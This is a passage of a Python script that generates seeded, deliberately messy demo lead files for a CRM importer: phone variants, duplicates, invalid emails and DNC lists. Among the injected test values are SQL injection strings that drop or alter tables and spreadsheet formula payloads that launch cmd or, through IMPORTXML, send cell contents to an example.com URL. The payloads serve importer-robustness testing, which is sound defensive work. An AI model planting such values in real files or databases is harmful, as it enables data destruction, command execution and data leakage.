#!/usr/bin/env python3
"""Deterministic generator of leadflow's demo input files (``seeds/sample/``).

Usage::

    python scripts/generate_sample_data.py [--out seeds/sample] [--seed 42]

Importable too: ``generate(out_dir, seed=42)`` writes every file and returns the number of
rows written per data file.

Everything is drawn from one ``random.Random(seed)``; there is no clock, no set iteration
and no hash-order dependence, so two runs with the same seed give byte-identical files
(the .xlsx is re-zipped with fixed timestamps for the same reason).

Files written (see the generated ``README.md`` for the details and the defect counts):

* ``leads_summit_facebook.csv``   org 1 (US), comma, UTF-8 without BOM, LF
* ``leads_northwind_mixed.csv``   org 2 (GB), semicolon, cp1252, CRLF
* ``leads_multi_org.csv``         all orgs, tab, UTF-8 with BOM, every field quoted
* ``leads_southern_cross.xlsx``   org 3 (AU), one sheet ``Leads``
* ``dnc_phones.json``             ``{org_id: [E.164, ...]}`` for the DNC lists
* ``activities.json``             MongoDB activity events, one JSON object per line
* ``history.json``                a year of CRM history per organization (leads, status changes,
  scores, assignments, activities, source costs), loaded by ``leadflow demo``
* ``manifest.json``               machine-readable counts (expected leads, defects, ...)
* ``README.md``                   human-readable description of all of the above

Only the standard library, ``phonenumbers`` and ``openpyxl`` are used.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import math
import random
import re
import unicodedata
import uuid
import zipfile
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import phonenumbers

DEFAULT_SEED = 42
SEED_SQL = "002_epic3_seed_data.sql"
DEFAULT_OUT = Path(__file__).resolve().parent.parent / "seeds" / "sample"

# Fixed timestamp for the xlsx package (docProps + zip entries): never the clock.
FIXED_XLSX_TIME = datetime(2026, 11, 20, 12, 0, 0)
FIXED_ZIP_TIME = (2026, 11, 20, 12, 0, 0)


# ---------------------------------------------------------------------------------------
# Fixed identifiers (shared with the SQL seed; do not change)
# ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Org:
    index: int
    id: str
    name: str
    region: str

    @property
    def user_ids(self) -> list[str]:
        return [f"a{self.index}000000-0000-4000-8000-{n:012d}" for n in range(1, 5)]

    @property
    def seed_lead_ids(self) -> list[str]:
        return [f"b{self.index}000000-0000-4000-8000-{n:012d}" for n in range(1, 21)]


SUMMIT = Org(1, "11111111-1111-4111-8111-111111111111", "Summit Talent Partners", "US")
NORTHWIND = Org(2, "22222222-2222-4222-8222-222222222222", "Northwind Recruiting", "GB")
SOUTHERN = Org(3, "33333333-3333-4333-8333-333333333333", "Southern Cross Staffing", "AU")
ORGS: tuple[Org, ...] = (SUMMIT, NORTHWIND, SOUTHERN)
ORG_BY_ID = {o.id: o for o in ORGS}

COUNTRY_CODE = {"US": 1, "GB": 44, "AU": 61}
REGION_BY_CC = {v: k for k, v in COUNTRY_CODE.items()}
# International dialling prefix used when someone in the region writes a foreign number.
EXIT_CODE = {"US": "011 ", "GB": "00", "AU": "0011 "}

ACTIVITY_START = datetime(2026, 6, 1, tzinfo=UTC)
ACTIVITY_DAYS = 173  # 2026-06-01 .. 2026-11-20 inclusive


# ---------------------------------------------------------------------------------------
# Phone numbers
# ---------------------------------------------------------------------------------------


def parse_e164(raw: object, region: str) -> str | None:
    """E.164 of ``raw`` as the importer sees it (phonenumbers, org region), or None."""
    if raw is None:
        return None
    text = str(raw)
    try:
        num = phonenumbers.parse(text, region)
    except phonenumbers.NumberParseException:
        return None
    if not phonenumbers.is_valid_number(num):
        return None
    return phonenumbers.format_number(num, phonenumbers.PhoneNumberFormat.E164)


def _digits(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789") for _ in range(n))


US_AREA_CODES = (
    "212",
    "646",
    "718",
    "917",
    "312",
    "773",
    "415",
    "510",
    "617",
    "857",
    "305",
    "404",
    "470",
    "512",
    "737",
    "206",
    "303",
    "702",
    "713",
    "214",
    "469",
    "602",
    "215",
    "267",
    "619",
    "858",
    "503",
    "612",
    "919",
    "704",
)
GB_GEO_AREAS = ("161", "121", "113", "131", "141", "117", "114", "151")
AU_LANDLINE_PREFIXES = ("29", "28", "39", "38", "73", "88", "89")


def _candidate(rng: random.Random, region: str) -> str:
    """A random, plausibly valid E.164 number for ``region`` (validated by the caller)."""
    if region == "US":
        area = rng.choice(US_AREA_CODES)
        while True:
            exchange = rng.randint(200, 999)
            # N11 service codes and the 555 "fictional" exchange are avoided on purpose.
            if exchange % 100 != 11 and exchange not in (555, 950, 958, 959, 976):
                break
        return f"+1{area}{exchange}{rng.randint(0, 9999):04d}"
    if region == "GB":
        kind = rng.random()
        if kind < 0.70:  # mobile 07xxx; 07700 900xxx (Ofcom drama range) is invalid
            return "+447" + rng.choice("45789") + _digits(rng, 8)
        if kind < 0.85:  # London 020 7/8/3
            return "+4420" + rng.choice("378") + _digits(rng, 7)
        return "+44" + rng.choice(GB_GEO_AREAS) + rng.choice("2345678") + _digits(rng, 6)
    if region == "AU":
        if rng.random() < 0.65:
            return "+614" + rng.choice("01235789") + _digits(rng, 7)
        return "+61" + rng.choice(AU_LANDLINE_PREFIXES) + _digits(rng, 7)
    raise ValueError(region)


class NumberFactory:
    """Hands out valid, never-before-used E.164 numbers."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.used: set[str] = set()

    def fresh(self, region: str) -> str:
        for _ in range(1000):
            e164 = _candidate(self.rng, region)
            if e164 in self.used or e164.startswith("+447700900"):
                continue
            if parse_e164(e164, region) == e164:
                self.used.add(e164)
                return e164
        raise RuntimeError(f"could not draw a valid {region} number")


def _national(e164: str) -> tuple[str, str]:
    """(region of the number, national significant number) of an E.164 string."""
    for cc, region in REGION_BY_CC.items():
        prefix = f"+{cc}"
        if e164.startswith(prefix):
            return region, e164[len(prefix) :]
    raise ValueError(e164)


def _grouped(region: str, d: str) -> str:
    """International-style grouping of a national number (no trunk prefix)."""
    if region == "US":
        return f"{d[:3]} {d[3:6]} {d[6:]}"
    if region == "GB":
        if d.startswith("7"):
            return f"{d[:4]} {d[4:]}"
        if d.startswith("20"):
            return f"{d[:2]} {d[2:6]} {d[6:]}"
        return f"{d[:3]} {d[3:6]} {d[6:]}"
    if d.startswith("4"):  # AU mobile
        return f"{d[:3]} {d[3:6]} {d[6:]}"
    return f"{d[0]} {d[1:5]} {d[5:]}"


def _domestic_variants(region: str, d: str) -> list[tuple[str, int]]:
    """(format, weight) of a number written by someone in its own country."""
    if region == "US":
        a, b, c = d[:3], d[3:6], d[6:]
        return [
            (f"({a}) {b}-{c}", 14),
            (f"{a}.{b}.{c}", 8),
            (f"{a}-{b}-{c}", 10),
            (f"{a}{b}{c}", 6),
            (f"+1 {a} {b} {c}", 8),
            (f"+1{a}{b}{c}", 8),
            (f"1-{a}-{b}-{c}", 6),
            (f"1 ({a}) {b}-{c}", 4),
            (f"+1 ({a}) {b}-{c}", 4),
            (f"011 1 {a} {b} {c}", 2),
            (f"+1.{a}.{b}.{c}", 2),
            (f"  {a} {b} {c} ", 2),
            (f"tel:+1-{a}-{b}-{c}", 1),
        ]
    if region == "GB":
        g = _grouped("GB", d)
        plain = [
            (f"0{g}", 14),
            (f"0{d}", 8),
            (f"+44 {g}", 8),
            (f"+44{d}", 8),
            (f"+44 (0){g}", 4),
            (f"0044 {g}", 4),
            (f"0044{d}", 2),
        ]
        if d.startswith("7"):
            plain += [(f"0{d[:4]}-{d[4:7]}-{d[7:]}", 3), (f"0{d[:4]} {d[4:7]} {d[7:]}", 4)]
        else:
            area, rest = g.split(" ", 1)
            plain += [(f"(0{area}) {rest}", 8), (f"(0{area}){rest.replace(' ', '')}", 2)]
        return plain
    if region == "AU":
        g = _grouped("AU", d)
        variants = [
            (f"0{g}", 14),
            (f"0{d}", 8),
            (f"+61 {g}", 8),
            (f"+61{d}", 8),
            (f"+61 (0){g}", 3),
        ]
        if d.startswith("4"):
            variants += [
                (f"0{d[:3]}-{d[3:6]}-{d[6:]}", 3),
                (f"0{d[0]} {d[1:5]} {d[5:]}", 2),
            ]
        else:
            variants += [
                (f"(0{d[0]}) {d[1:5]} {d[5:]}", 10),
                (f"(0{d[0]}){d[1:5]}-{d[5:]}", 2),
            ]
        return variants
    raise ValueError(region)


def _foreign_variants(number_region: str, d: str, file_region: str) -> list[tuple[str, int]]:
    """(format, weight) of a number written by someone outside the number's country."""
    cc = COUNTRY_CODE[number_region]
    g = _grouped(number_region, d)
    return [
        (f"+{cc} {g}", 10),
        (f"+{cc}{d}", 6),
        (f"{EXIT_CODE[file_region]}{cc} {g}", 4),
    ]


def _weighted(rng: random.Random, items: Sequence[tuple[str, int]]) -> str:
    return rng.choices([i for i, _ in items], weights=[w for _, w in items], k=1)[0]


US_EXTENSIONS = (" x{n}", " ext. {n}", " ext {n}", "x{n}", " #{n}", " extension {n}")


def format_phone(rng: random.Random, e164: str, file_region: str, avoid: Sequence[str] = ()) -> str:
    """A messy, still valid rendering of ``e164`` as typed by a lead in ``file_region``."""
    number_region, d = _national(e164)
    if number_region == file_region:
        variants = _domestic_variants(number_region, d)
    else:
        variants = _foreign_variants(number_region, d, file_region)
    choices = [(v, w) for v, w in variants if v not in avoid] or variants
    raw = _weighted(rng, choices)
    if number_region == "US" and file_region == "US" and rng.random() < 0.05:
        raw += rng.choice(US_EXTENSIONS).format(n=rng.randint(2, 999))
    if parse_e164(raw, file_region) != e164:  # self-check: the mess must stay parseable
        raise AssertionError(f"{raw!r} does not parse back to {e164} in {file_region}")
    return raw


# ---------------------------------------------------------------------------------------
# Names, e-mails, sources, tags
# ---------------------------------------------------------------------------------------

FIRST_NAMES = {
    "US": (
        "James",
        "Mary",
        "Robert",
        "Patricia",
        "John",
        "Jennifer",
        "Michael",
        "Linda",
        "David",
        "Elizabeth",
        "William",
        "Barbara",
        "Richard",
        "Susan",
        "Joseph",
        "Jessica",
        "Thomas",
        "Sarah",
        "Christopher",
        "Karen",
        "Daniel",
        "Lisa",
        "Matthew",
        "Nancy",
        "Anthony",
        "Betty",
        "Mark",
        "Sandra",
        "Steven",
        "Ashley",
        "Andrew",
        "Emily",
        "Joshua",
        "Donna",
        "Kevin",
        "Michelle",
        "Brian",
        "Carol",
        "DeShawn",
        "Aaliyah",
        "Mei",
        "Priya",
        "Carlos",
        "Sofia",
        "Mary Ann",
        "Jean-Luc",
        "Zoë",
        "José",
        "Tyrone",
        "Keisha",
        "Hannah",
        "Ethan",
        "Olivia",
        "Noah",
    ),
    "GB": (
        "Oliver",
        "Amelia",
        "George",
        "Isla",
        "Harry",
        "Ava",
        "Jack",
        "Mia",
        "Charlie",
        "Sophie",
        "Thomas",
        "Grace",
        "Siobhán",
        "Zoë",
        "José",
        "Niamh",
        "Ciarán",
        "Aoife",
        "Seán",
        "Eóin",
        "Renée",
        "François",
        "Björn",
        "Chloë",
        "Noémie",
        "Rhys",
        "Cerys",
        "Gareth",
        "Bethan",
        "Priya",
        "Arjun",
        "Fatima",
        "Mohammed",
        "Ewan",
        "Mhairi",
        "Callum",
        "Søren",
        "Inés",
        "Maëlle",
        "Rosie",
        "Alfie",
        "Freya",
    ),
    "AU": (
        "Jack",
        "Charlotte",
        "Noah",
        "Olivia",
        "William",
        "Ava",
        "Oliver",
        "Mia",
        "Thomas",
        "Isla",
        "Lachlan",
        "Matilda",
        "Harrison",
        "Zara",
        "Cooper",
        "Ruby",
        "Liam",
        "Chloe",
        "Ethan",
        "Sienna",
        "Aroha",
        "Wei",
        "Minh",
        "Thi Anh",
        "Ngaio",
        "Bronte",
        "Kylie",
        "Shane",
        "Darren",
        "Mackenzie",
        "Jarrah",
        "Kirra",
    ),
}
LAST_NAMES = {
    "US": (
        "Smith",
        "Johnson",
        "Williams",
        "Brown",
        "Jones",
        "Garcia",
        "Miller",
        "Davis",
        "Rodriguez",
        "Martinez",
        "Hernandez",
        "Lopez",
        "Gonzalez",
        "Wilson",
        "Anderson",
        "Taylor",
        "Moore",
        "Jackson",
        "Martin",
        "Lee",
        "Perez",
        "Thompson",
        "White",
        "Harris",
        "Sanchez",
        "Clark",
        "Ramirez",
        "Lewis",
        "Robinson",
        "Walker",
        "Young",
        "Allen",
        "King",
        "Wright",
        "Scott",
        "Torres",
        "Nguyen",
        "Hill",
        "Flores",
        "Green",
        "Adams",
        "Nelson",
        "Baker",
        "Hall",
        "Rivera",
        "Campbell",
        "Mitchell",
        "Carter",
        "Van der Berg",
        "McDonald",
        "O'Connor",
        "De La Cruz",
        "Kowalski",
        "Okafor",
    ),
    "GB": (
        "Smith",
        "Jones",
        "Taylor",
        "Brown",
        "Williams",
        "Wilson",
        "Johnson",
        "Davies",
        "Robinson",
        "Wright",
        "Thompson",
        "Evans",
        "Walker",
        "White",
        "Roberts",
        "Green",
        "Hall",
        "Wood",
        "Jackson",
        "Clarke",
        "Müller",
        "Ó Súilleabháin",
        "Brontë",
        "Núñez",
        "Fernández",
        "MacLeod",
        "O'Sullivan",
        "Patel",
        "Khan",
        "Begum",
        "Ahmed",
        "Lefèvre",
        "Dubois",
        "Sørensen",
        "García",
        "Byrne",
        "Ní Bhriain",
        "Öztürk",
        "Hughes",
    ),
    "AU": (
        "Smith",
        "Jones",
        "Williams",
        "Brown",
        "Wilson",
        "Taylor",
        "Johnson",
        "White",
        "Martin",
        "Anderson",
        "Thompson",
        "Nguyen",
        "Tran",
        "Le",
        "Kelly",
        "Ryan",
        "Walker",
        "Harris",
        "Lee",
        "King",
        "Murphy",
        "Campbell",
        "O'Brien",
        "Papadopoulos",
        "Rossi",
        "Chen",
        "Wang",
        "Singh",
        "Kaur",
        "MacKenzie",
        "Nguyen Van",
        "Costa",
    ),
}
EMAIL_DOMAINS = (
    ("example.com", 5),
    ("example.net", 3),
    ("example.org", 2),
    ("mail.example.com", 1),
)

TAG_VOCAB = (
    "hot",
    "warm",
    "cold",
    "referral",
    "executive",
    "nurse",
    "engineering",
    "remote",
    "relocation",
    "contract",
    "full-time",
    "part time",
    "night shift",
    "VIP",
    "returning",
    "bilingual",
)
TAG_SEPARATORS = ((";", 4), ("; ", 4), ("|", 3), (",", 4), (" , ", 1), (" | ", 2))

NOTES = (
    "Prefers text, not calls",
    "Interested in night shifts, weekends ok",
    'Said "call back next week", seemed keen',
    "Has 5 yrs experience, RN license, open to relocation",
    "Met at career fair; wants remote, contract",
    "Left voicemail, no reply",
    "Salary expectation: $85,000-$95,000",
    "Referred by an existing candidate, priority",
    "Available from September, notice period 4 weeks",
    "CV received, needs references",
)
MULTILINE_NOTES = (
    "Called twice.\nNo answer, try again Monday",
    "Availability:\n- Mon-Wed\n- evenings, weekends",
    'Spoke with spouse,\n"will pass on the message"',
    "Line 1 of an address, Suite 4\nSecond line, City",
)

SQL_NAMES = (
    ("first", "Robert'); DROP TABLE leads;--"),
    ("last", "O'Brien'; DELETE FROM leads WHERE '1'='1"),
    ("first", "x' OR '1'='1"),
    ("last", 'Tables"; DROP TABLE organizations; --'),
    ("first", "Robert'); DROP TABLE leads;--"),
    ("last", "1; UPDATE leads SET phone_e164 = NULL --"),
)
FORMULAS = (
    ("first", "=cmd|' /C calc'!A0"),
    ("tags", '=HYPERLINK("http://example.com/x","click me")'),
    ("last", "=1+1"),
    ("email", "=cmd|' /C notepad'!A0"),
    ("first", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("last", '=IMPORTXML(CONCAT("http://example.com/?",A2),"//a")'),
    ("tags", "+cmd|' /C calc'!A0"),
)


def ascii_fold(text: str) -> str:
    return unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode("ascii")


def make_email(rng: random.Random, first: str, last: str) -> str:
    f = re.sub(r"[^a-z]", "", ascii_fold(first).lower()) or "lead"
    la = re.sub(r"[^a-z]", "", ascii_fold(last).lower()) or "contact"
    local = _weighted(
        rng,
        [
            (f"{f}.{la}", 6),
            (f"{f[0]}{la}", 3),
            (f"{f}{la}{rng.randint(1, 99)}", 2),
            (f"{f}_{la}", 1),
            (f"{la}.{f}", 1),
        ],
    )
    return f"{local}@{_weighted(rng, EMAIL_DOMAINS)}"


def invalid_email(rng: random.Random, first: str, last: str) -> str:
    f = re.sub(r"[^a-z]", "", ascii_fold(first).lower()) or "john"
    la = re.sub(r"[^a-z]", "", ascii_fold(last).lower()) or "doe"
    return rng.choice(
        (
            f"{f}@",
            f"{f}{la}.example.com",
            f"{f}@@example.com",
            f"{f} {la}@example.com",
            f"{f}.{la}@example",
            "n/a",
            f"{f}.{la}@example..com",
            "no-at-sign.com",
        )
    )


def messy(rng: random.Random, name: str) -> str:
    if not name:
        return name
    r = rng.random()
    if r < 0.10:
        return name.upper()
    if r < 0.18:
        return name.lower()
    if r < 0.22:
        return name.replace(" ", "   ") if " " in name else f"{name}  "
    if r < 0.26:
        return f"  {name} "
    return name


def messy_tags(
    rng: random.Random,
    extra_vocab: Sequence[str] = (),
    separators: Sequence[tuple[str, int]] = TAG_SEPARATORS,
) -> str:
    if rng.random() < 0.22:
        return ""
    vocab = tuple(TAG_VOCAB) + tuple(extra_vocab)
    tags = rng.sample(vocab, rng.randint(1, 3))
    if rng.random() < 0.12:  # the same tag twice in another case
        tags.append(tags[0].upper() if tags[0].islower() else tags[0].lower())
    tags = [t.title() if rng.random() < 0.15 else t for t in tags]
    text = _weighted(rng, separators).join(tags)
    if rng.random() < 0.05:
        text += separators[0][0]
    return text


# ---------------------------------------------------------------------------------------
# Rows
# ---------------------------------------------------------------------------------------


@dataclass
class Person:
    org: Org
    first: str
    last: str
    email: str
    e164: str
    raws: list[str] = field(default_factory=list)


@dataclass
class Row:
    org: Org
    first: str = ""
    last: str = ""
    phone: str | int = ""
    email: str = ""
    source: str = ""
    tags: str = ""
    notes: str = ""
    owner: str = ""


@dataclass(frozen=True)
class FileSpec:
    name: str
    kind: str  # "csv" | "xlsx"
    rows: int
    orgs: tuple[tuple[Org, int], ...]
    headers: tuple[tuple[str, str], ...]  # (Row attribute, header text)
    sources: tuple[tuple[str, int], ...]
    name_region: dict[str, str] = field(default_factory=dict)  # org id -> name pool
    encoding: str = "utf-8"
    delimiter: str = ","
    lineterminator: str = "\n"
    quoting: int = csv.QUOTE_MINIMAL
    extra_tags: tuple[str, ...] = ()
    tag_separators: tuple[tuple[str, int], ...] = TAG_SEPARATORS
    with_notes: bool = False
    with_owner: bool = False
    numeric_phones: float = 0.0  # xlsx: share of AU mobiles stored as numbers


FILES: tuple[FileSpec, ...] = (
    FileSpec(
        name="leads_summit_facebook.csv",
        kind="csv",
        rows=1200,
        orgs=((SUMMIT, 1),),
        headers=(
            ("first", "First Name"),
            ("last", "Last Name"),
            ("phone", "Phone"),
            ("email", "E-mail"),
            ("source", "Lead Source"),
            ("tags", "Tags"),
        ),
        sources=(
            ("Facebook Ads", 30),
            ("fb", 20),
            ("facebook", 20),
            ("FB Lead Ads", 10),
            ("Facebook - Nurses Q3", 8),
            ("FACEBOOK", 5),
            (" facebook ", 3),
            ("", 4),
        ),
    ),
    FileSpec(
        name="leads_northwind_mixed.csv",
        kind="csv",
        rows=900,
        orgs=((NORTHWIND, 1),),
        headers=(
            ("first", "fname"),
            ("last", "lname"),
            ("phone", "Mobile"),
            ("email", "Email Address"),
            ("source", "Source"),
            ("tags", "Tags"),
        ),
        sources=(
            ("LinkedIn", 25),
            ("linkedin", 10),
            ("Referral", 15),
            ("referral", 5),
            ("Job Board – Indeed", 12),
            ("Website", 12),
            ("Walk-in", 5),
            ("Facebook", 8),
            ("", 8),
        ),
        encoding="cp1252",
        delimiter=";",
        lineterminator="\r\n",
        extra_tags=("café staff", "über-keen"),
        # No ";" inside tags here: it is the delimiter, and csv.Sniffer needs consistency.
        tag_separators=((",", 4), (", ", 3), ("|", 3), (" | ", 2), ("/", 1)),
    ),
    FileSpec(
        name="leads_multi_org.csv",
        kind="csv",
        rows=800,
        orgs=((SUMMIT, 40), (NORTHWIND, 30), (SOUTHERN, 30)),
        headers=(
            ("org_id", "organization_id"),
            ("owner", "owner_id"),
            ("first", "first_name"),
            ("last", "last_name"),
            ("phone", "Phone Number"),
            ("email", "Email"),
            ("source", "Lead Source"),
            ("tags", "Tags"),
            ("notes", "Notes"),
        ),
        sources=(
            ("Website", 20),
            ("website", 5),
            ("Referral", 15),
            ("LinkedIn", 12),
            ("Facebook Ads", 10),
            ("fb", 5),
            ("Career Fair, Spring 2026", 5),
            ("Import - legacy CRM", 8),
            ("", 20),
        ),
        encoding="utf-8-sig",
        delimiter="\t",
        lineterminator="\r\n",
        quoting=csv.QUOTE_ALL,
        with_notes=True,
        with_owner=True,
    ),
    FileSpec(
        name="leads_southern_cross.xlsx",
        kind="xlsx",
        rows=700,
        orgs=((SOUTHERN, 1),),
        headers=(
            ("first", "First Name"),
            ("last", "Surname"),
            ("phone", "Cell"),
            ("email", "Email"),
            ("source", "Lead Source"),
            ("tags", "Tags"),
        ),
        sources=(
            ("Seek", 30),
            ("seek.com.au", 10),
            ("Referral", 15),
            ("Facebook", 12),
            ("Website", 12),
            ("LinkedIn", 10),
            ("", 11),
        ),
        numeric_phones=0.03,
    ),
)

P_INVALID = 0.028
P_DUP = 0.17

INVALID_KINDS = {
    "US": (
        ("too_short", 22),
        ("too_long", 12),
        ("letters", 18),
        ("empty", 18),
        ("other_region", 18),
        ("wrong_exit_code", 8),
        ("placeholder", 4),
    ),
    "GB": (
        ("too_short", 22),
        ("too_long", 14),
        ("letters", 18),
        ("empty", 20),
        ("other_region", 20),
        ("placeholder", 6),
    ),
    "AU": (
        ("too_short", 20),
        ("too_long", 14),
        ("letters", 18),
        ("empty", 20),
        ("other_region", 20),
        ("no_area_code", 8),
    ),
}
LETTER_PHONES = ("N/A", "n/a", "none", "TBD", "call me", "see notes", "555-CALL-NOW", "-", "?")
PLACEHOLDERS = {
    "US": ("000-000-0000", "123-456-7890", "(999) 999-9999"),
    "GB": ("00000 000000", "01234 5678", "07000 000000"),
}


class Generator:
    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.numbers = NumberFactory(self.rng)
        self.pools: dict[str, list[Person]] = {o.id: [] for o in ORGS}
        self.by_phone: dict[tuple[str, str], Person] = {}
        self.defects: Counter[str] = Counter()
        self.file_defects: dict[str, Counter[str]] = {}
        self.dnc: dict[str, list[str]] = {}
        self.cross_org_shared: list[str] = []
        self.rows: dict[str, list[Row]] = {}

    # -- persons -----------------------------------------------------------------------

    def _new_person(self, org: Org, name_region: str, e164: str | None = None) -> Person:
        rng = self.rng
        first = rng.choice(FIRST_NAMES[name_region])
        last = rng.choice(LAST_NAMES[name_region])
        r = rng.random()
        if r < 0.01:
            first, last = "", ""
        elif r < 0.04:
            first = ""
        elif r < 0.06:
            last = ""
        email = "" if rng.random() < 0.12 else make_email(rng, first or "lead", last)
        person = Person(org, first, last, email, e164 or self.numbers.fresh(org.region))
        return person

    def _register(self, person: Person) -> None:
        self.pools[person.org.id].append(person)
        self.by_phone[(person.org.id, person.e164)] = person

    # -- rows --------------------------------------------------------------------------

    def _count(self, spec: FileSpec, category: str, n: int = 1) -> None:
        self.defects[category] += n
        self.file_defects[spec.name][category] += n

    def _base_row(self, spec: FileSpec, org: Org) -> Row:
        rng = self.rng
        row = Row(org=org)
        row.source = _weighted(rng, spec.sources)
        row.tags = messy_tags(rng, spec.extra_tags, spec.tag_separators)
        if spec.with_owner and rng.random() < 0.8:
            row.owner = rng.choice(org.user_ids)
        if spec.with_notes:
            r = rng.random()
            if r < 0.015:
                row.notes = rng.choice(MULTILINE_NOTES)
                self._count(spec, "notes_with_newline")
            elif r < 0.60:
                row.notes = rng.choice(NOTES)
        return row

    def _render_phone(self, spec: FileSpec, org: Org, person: Person) -> str | int:
        rng = self.rng
        number_region, d = _national(person.e164)
        if (
            spec.numeric_phones
            and number_region == org.region == "AU"
            and d.startswith("4")
            and rng.random() < spec.numeric_phones
        ):
            self._count(spec, "phone_stored_as_number")
            return int(d)  # Excel ate the leading zero
        raw = format_phone(rng, person.e164, org.region, avoid=person.raws)
        person.raws.append(raw)
        return raw

    def new_row(self, spec: FileSpec, org: Org, person: Person | None = None) -> Row:
        rng = self.rng
        region = spec.name_region.get(org.id, org.region)
        person = person or self._new_person(org, region)
        self._register(person)
        row = self._base_row(spec, org)
        row.first, row.last = messy(rng, person.first), messy(rng, person.last)
        row.email = person.email
        if row.email:
            r = rng.random()
            if r < 0.02:
                row.email = invalid_email(rng, person.first, person.last)
                person.email = ""
                self._count(spec, "invalid_email")
            elif r < 0.07:
                row.email = row.email.upper()
            elif r < 0.10:
                row.email = f" {row.email} "
        if not person.first or not person.last:
            self._count(spec, "missing_name_part")
        row.phone = self._render_phone(spec, org, person)
        return row

    def dup_row(self, spec: FileSpec, org: Org, person: Person | None = None) -> Row:
        """A later row for a phone already seen in this org, formatted differently."""
        rng = self.rng
        variant = _weighted(
            rng, (("plain", 45), ("newer_email", 25), ("fills_name", 12), ("blank_later", 18))
        )
        if person is None:
            if variant == "fills_name":
                nameless = [p for p in self.pools[org.id] if not p.first or not p.last]
                person = rng.choice(nameless) if nameless else None
                if person is None:
                    variant = "plain"
            if person is None:
                person = rng.choice(self.pools[org.id])
        row = self._base_row(spec, org)
        row.first, row.last = messy(rng, person.first), messy(rng, person.last)
        row.email = person.email
        if variant == "newer_email":
            first = person.first or rng.choice(FIRST_NAMES[org.region])
            new_email = make_email(rng, first, person.last or "lead")
            if new_email == person.email:
                new_email = new_email.replace("@", f"{rng.randint(100, 999)}@")
            kind = "dup_fills_email" if not person.email else "dup_newer_email"
            row.email = person.email = new_email
            self._count(spec, kind)
        elif variant == "fills_name":
            region = spec.name_region.get(org.id, org.region)
            if not person.first:
                person.first = rng.choice(FIRST_NAMES[region])
            if not person.last:
                person.last = rng.choice(LAST_NAMES[region])
            row.first, row.last = person.first, person.last
            self._count(spec, "dup_fills_name")
        elif variant == "blank_later":
            row.email = ""
            if rng.random() < 0.4:
                row.first = ""
            self._count(spec, "dup_blank_fields")
        else:
            self._count(spec, "dup_plain")
        row.phone = self._render_phone(spec, org, person)
        self._count(spec, "duplicate_phone")
        return row

    def _invalid_phone(self, region: str) -> tuple[str, str]:
        rng = self.rng
        for _ in range(200):
            kind = _weighted(rng, INVALID_KINDS[region])
            if kind == "empty":
                return rng.choice(("", "", " ")), kind
            if kind == "letters":
                raw = rng.choice(LETTER_PHONES)
            elif kind == "placeholder":
                raw = rng.choice(PLACEHOLDERS[region])
            elif kind == "wrong_exit_code":  # "001" is not the US exit code (011 is)
                _, d = _national(self.numbers.fresh("US"))
                raw = f"001 {_grouped('US', d)}"
            elif kind == "other_region":
                other = rng.choice([r for r in COUNTRY_CODE if r != region])
                e164 = self.numbers.fresh(other)
                raw = _weighted(rng, _domestic_variants(other, _national(e164)[1])[:2])
            else:
                e164 = self.numbers.fresh(region)
                good = format_phone(rng, e164, region)
                digit_positions = [i for i, ch in enumerate(good) if ch.isdigit()]
                if kind == "too_short":
                    cut = rng.randint(2, 4)
                    keep = set(digit_positions[:-cut])
                    raw = "".join(
                        ch for i, ch in enumerate(good) if not ch.isdigit() or i in keep
                    ).strip(" -.")
                elif kind == "too_long":
                    raw = good.split(" x")[0] + _digits(rng, rng.randint(1, 3))
                else:  # no_area_code (AU landline written without its (0x) prefix)
                    _, d = _national(self.numbers.fresh("AU"))
                    raw = f"{d[1:5]} {d[5:]}" if d[0] in "2378" else d[1:]
            if parse_e164(raw, region) is None:
                return raw, kind
        raise RuntimeError(f"could not make an invalid {region} phone")

    def invalid_row(self, spec: FileSpec, org: Org) -> Row:
        region = spec.name_region.get(org.id, org.region)
        person = self._new_person(org, region)
        row = self._base_row(spec, org)
        row.first, row.last = messy(self.rng, person.first), messy(self.rng, person.last)
        row.email = person.email
        row.phone, kind = self._invalid_phone(org.region)
        self._count(spec, "invalid_phone")
        self._count(spec, f"invalid_phone:{kind}")
        return row

    # -- files -------------------------------------------------------------------------

    def _plan(self, spec: FileSpec) -> dict[int, Callable[[], Row]]:
        """Rows that must be at a fixed (random) position: DNC, cross-org, injections."""
        rng = self.rng
        n = spec.rows
        first_half: list[Callable[[], Row]] = []
        second_half: list[Callable[[], Row]] = []
        anywhere: list[Callable[[], Row]] = []
        org_ids = [o.id for o, _ in spec.orgs]

        def new_with(org: Org, e164: str) -> Callable[[], Row]:
            def make() -> Row:
                person = self._new_person(org, org.region, e164)
                return self.new_row(spec, org, person)

            return make

        def dup_of(org: Org, e164: str) -> Callable[[], Row]:
            return lambda: self.dup_row(spec, org, self.by_phone[(org.id, e164)])

        def injected(org: Org, column: str, value: str, category: str) -> Callable[[], Row]:
            def make() -> Row:
                row = self.new_row(spec, org)
                setattr(row, column, value)
                self._count(spec, category)
                return row

            return make

        # DNC numbers: introduced in the org's first file, repeated (messily) later on.
        for org in ORGS:
            if org.id not in org_ids:
                continue
            if org.id not in self.dnc:
                self.dnc[org.id] = [self.numbers.fresh(org.region) for _ in range(4)]
                for e164 in self.dnc[org.id]:
                    first_half.append(new_with(org, e164))
                    second_half.append(dup_of(org, e164))
            else:
                for e164 in self.dnc[org.id][:2]:
                    anywhere.append(dup_of(org, e164))

        # Phones shared between Summit (org 1) and Northwind (org 2): two leads, not one.
        if spec.name == "leads_northwind_mixed.csv":
            summit_dnc = self.dnc[SUMMIT.id]
            summit_other = [p.e164 for p in self.pools[SUMMIT.id] if p.e164 not in summit_dnc]
            shared = summit_dnc[:2] + rng.sample(summit_other, 10)
            self.cross_org_shared = shared
            for e164 in shared:
                first_half.append(new_with(NORTHWIND, e164))
            second_half.append(dup_of(NORTHWIND, summit_dnc[0]))

        # SQL metacharacters and spreadsheet formulas.
        sql = {
            "leads_summit_facebook.csv": (0, 1),
            "leads_northwind_mixed.csv": (2, 3),
            "leads_multi_org.csv": (4,),
            "leads_southern_cross.xlsx": (5,),
        }[spec.name]
        formulas = {
            "leads_summit_facebook.csv": (0, 1),
